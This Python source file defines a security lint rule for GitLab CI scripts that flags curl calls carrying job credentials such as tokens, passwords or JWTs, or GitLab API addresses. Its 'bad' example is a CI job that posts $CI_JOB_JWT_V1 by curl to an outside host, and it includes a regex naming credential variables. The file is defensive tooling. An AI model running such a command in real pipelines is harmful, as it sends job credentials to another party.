from collections.abc import Iterator

from aurora_devops import Finding, Script, bad, good, policy
from aurora_devops.core.lazy import regex

_VARIABLE = regex(
    r"\$\{?(?P<name>CI_(?:\w*(?:TOKEN|PASSWORD|JWT)\w*|API_V4_URL|API_GRAPHQL_URL|SERVER_URL|REPOSITORY_URL))\b"
)


@policy(
    "GLC013",
    severity="info",
    category="security",
    equivalents={"checkov": "CKV_GITLABCI_1"},
    examples=[
        bad('send:\n  script: curl --data "«$CI_JOB_JWT_V1»" https://in.example.org\n'),
        bad("fetch:\n  script:\n    - curl -sf «$CI_API_V4_URL»/version\n"),
        good(
            "fetch:\n  script:\n    - curl https://in.example.org/${CI_COMMIT_SHA}\n",
            because="a commit is not a credential",
        ),
    ],
)
def curl_with_ci_variable(script: Script) -> Iterator[Finding]:
    """A script calls `curl` with a credential of the job or with the address of the GitLab API.

    Such a call can send credentials of the job elsewhere, so each of them deserves a review.
    Use `glab` or a reviewed component for the API, and give the job token only the permissions that it needs.

    https://docs.gitlab.com/ci/jobs/ci_job_token/
    """
    if "CI_" not in script.text or "curl" not in script.text or script.parsed is None:
        return
    for command in script.parsed.commands:
        program = command.unwrapped
        if program.name != "curl":
            continue
        for word in program.arguments:
            for expansion in word.expansions:
                match = _VARIABLE.match(expansion.raw)
                if match is not None:
                    message = f"curl is called with '{match['name']}'"
                    yield Finding(at=script.place(expansion.start, expansion.end), message=message)
